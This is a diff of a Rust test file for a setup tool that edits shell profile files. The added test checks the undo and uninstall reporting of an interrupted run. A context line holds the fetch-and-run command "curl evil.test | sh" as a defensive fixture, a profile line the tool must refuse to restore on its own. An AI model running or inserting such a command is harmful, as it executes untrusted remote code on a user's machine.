@@ -235,6 +235,20 @@ fn a_run_that_goes_on_shows_the_paths_whose_edits_it_takes_back_first() {
 }
 
 #[test]
+fn what_an_unfinished_run_would_take_back_is_shown_though_nobody_is_asked() {
+    for command in ["undo", "uninstall"] {
+        let home = Home::new();
+        let begin = json!({"schema": 1, "run": "8-2", "time": 8, "event": "begin", "command": command,
+            "program": "0.1.0", "of": ["7-1"]});
+        home.journal(&format!("{}{begin}\n", joined(&home.lines("7-1"))));
+        let said = home.program.run(&["repair", "go.flags", "--yes", "--offline"]);
+        let path = home.path(".profile").display().to_string();
+        assert!(said.err.contains(&path), "{command}: {said:?}");
+        assert_eq!(home.text(".profile"), "theirs\n", "{command}: {said:?}");
+    }
+}
+
+#[test]
 fn what_comes_back_into_a_file_that_shells_run_is_what_we_write_or_a_person_says_so() {
     let own = "# Made by fyne-setup; `fyne-setup uninstall` takes it away.\nexport GOPROXY='direct'\n";
     for (before, comes) in [(own, true), ("curl evil.test | sh\n", false), (&*format!("{own}id\n"), false)] {
